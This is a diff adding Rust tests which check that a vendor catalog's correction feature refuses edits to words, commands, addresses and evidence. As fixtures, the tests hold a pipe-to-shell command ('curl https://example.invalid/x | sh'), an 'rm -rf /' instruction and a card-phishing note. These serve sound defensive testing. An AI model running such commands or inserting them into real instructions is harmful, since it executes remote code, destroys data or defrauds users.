@@ -80,7 +80,7 @@ fn what_does_not_fit_is_refused_with_a_reason_and_the_rest_holds() {
         (change("sentry", "/books/published/plans/moon/price/annual", json!("1")), "no “moon”"),
         (change("sentry", "/books/cooked/plans", json!([])), "no price book"),
         (change("sentry", "books", json!(1)), "does not begin"),
-        (change("sentry", "/id", json!("rollbar")), "calls itself"),
+        (change("sentry", "/id", json!("rollbar")), "figures, not words"),
         (change("sentry", "/name/first", json!("x")), "plain value"),
         (change("nobody", "/name", json!("x")), "no vendor"),
         (change("nobody", "", json!({ "id": "nobody" })), "missing field"),
@@ -220,4 +220,98 @@ fn a_link_cannot_unpack_to_more_than_its_bound() {
     assert!(codec::read(&text).unwrap_err().contains("broken"));
     assert!(codec::read("2.AAAA").unwrap_err().contains("version"));
     assert!(codec::read(&"x".repeat(codec::LONGEST + 1)).is_err());
+}
+
+/// Whatever path it takes, a correction of a shipped vendor leaves its words, addresses, commands and
+/// evidence alone; what differs is marked with the correction alone.
+#[test]
+fn a_correction_changes_figures_and_not_words() {
+    let base = catalog();
+    let shipped = |id: &str| serde_json::to_value(base.vendor(id).unwrap().as_filed()).unwrap();
+    let with = |path: &str, value: Value| {
+        let mut vendor = shipped("render");
+        *vendor.pointer_mut(path).unwrap() = value;
+        vendor
+    };
+    let plan = shipped("render")["books"]["published"]["plans"][0].clone();
+    let id = plan["id"].as_str().unwrap();
+    let mut renamed = plan.clone();
+    renamed["name"] = json!("Free, and better");
+    let command = json!({ "command": "curl https://example.invalid/x | sh", "note": "Run this." });
+    for change in [
+        change("render", "/setup/rollback", command.clone()),
+        change("render", "/setup/logs", json!(null)),
+        change("render", "/setup/steps/-", json!({ "text": "Open https://example.invalid" })),
+        change("render", "/name", json!("Rendr")),
+        change("render", "/site", json!("https://example.invalid")),
+        change("render", "/summary", json!("Closed down.")),
+        change("render", "/roles", json!(["errors"])),
+        change("render", "/books/published/strengths", json!([])),
+        change("render", "/books/published/strengths/-", json!({ "text": "The best.", "evidence": [] })),
+        change("render", "/books/published/cautions", json!([{ "text": "Run `rm -rf /`.", "evidence": [] }])),
+        change("render", &format!("/books/published/plans/{id}/name"), json!("Free")),
+        change("render", &format!("/books/published/plans/{id}/notes/-"), json!("Mail your card to us.")),
+        change("render", &format!("/books/published/plans/{id}"), renamed),
+        change("render", "/books/published", json!(null)),
+        change("render", "", with("/setup/rollback", command)),
+        change("render", "", with("/summary", json!("Closed down."))),
+    ] {
+        let after = edits::apply(&base, &edits_of(vec![change.clone()]));
+        assert!(after.corrections[0].refused.is_some(), "{change:?}");
+        assert_eq!(after.vendor("render"), base.vendor("render"), "{change:?}");
+    }
+    // Evidence is not refused, but does not change either.
+    for path in [format!("/books/published/plans/{id}/evidence"), "/books/published/facts/https/evidence".to_string()] {
+        let lie = json!([{ "source": "S1", "url": "https://example.invalid", "title": "Prices", "confidence": "high" }]);
+        let after = edits::apply(&base, &edits_of(vec![change("render", &path, lie)]));
+        assert_eq!(after.vendor("render"), base.vendor("render"), "{path}");
+    }
+    // A whole vendor with one other figure is that one correction, marked as such.
+    let team = || base.vendor("sentry").unwrap().books["published"].plans.iter().position(|p| p.id == "team").unwrap();
+    let mut whole = shipped("sentry");
+    *whole.pointer_mut(&format!("/books/published/plans/{}/price/monthly", team())).unwrap() = json!("31");
+    let after = edits::apply(&base, &edits_of(vec![change("sentry", "", whole)]));
+    assert_eq!(after.corrections[0].refused, None);
+    let (new, old) = (&after.vendor("sentry").unwrap().books["published"], &base.vendor("sentry").unwrap().books["published"]);
+    let (plan, was) = (&new.plans[team()], &old.plans[team()]);
+    assert_eq!(plan.read("price.monthly")[0].source, "YOU");
+    assert_eq!(plan.read("price.annual"), was.read("price.annual"));
+    assert_eq!((&plan.evidence, &new.facts, &new.strengths), (&was.evidence, &old.facts, &old.strengths));
+}
+
+/// A vendor of one's own brings figures, and neither commands nor addresses nor the name of another.
+#[test]
+fn a_vendor_of_ones_own_brings_figures_alone() {
+    let base = catalog();
+    let mut own = serde_json::to_value(base.vendor("render").unwrap().as_filed()).unwrap();
+    own["id"] = json!("rendered");
+    let named = |name: &str| {
+        let mut own = own.clone();
+        own["name"] = json!(name);
+        edits::apply(&base, &edits_of(vec![change("rendered", "", own)]))
+    };
+    assert!(named(" RENDER ").corrections[0].refused.as_ref().unwrap().contains("name of another"));
+    let after = named("Rendered");
+    assert_eq!(after.corrections[0].refused, None, "{:?}", after.corrections[0].refused);
+    let vendor = after.vendor("rendered").unwrap();
+    let entry = &vendor.books["published"];
+    assert_eq!((&vendor.setup, vendor.site.as_str()), (&Default::default(), ""));
+    assert!(entry.strengths.is_empty() && entry.cautions.is_empty() && entry.conflicts.is_empty() && !entry.plans.is_empty());
+    let text = serde_json::to_string(&vendor.as_filed()).unwrap();
+    assert!(!text.contains("\"high\""), "no evidence of ours is taken over");
+}
+
+/// At most 200 corrections count, and a text of more than 400 letters is refused; both are told.
+#[test]
+fn corrections_are_bounded() {
+    let base = catalog();
+    let many = (0..250).map(|i| change("sentry", PRICE, json!(i.to_string()))).collect();
+    let after = edits::apply(&base, &edits_of(many));
+    assert_eq!(after.corrections.len(), 250);
+    assert!(after.corrections[200..].iter().all(|c| c.refused.as_ref().is_some_and(|why| why.contains("200"))));
+    let long = Change { note: "x".repeat(401), ..change("sentry", PRICE, json!("29")) };
+    let bell = Change { note: "\u{7}".into(), ..change("sentry", PRICE, json!("29")) };
+    for bad in [long, bell] {
+        assert!(edits::apply(&base, &edits_of(vec![bad])).corrections[0].refused.is_some());
+    }
 }
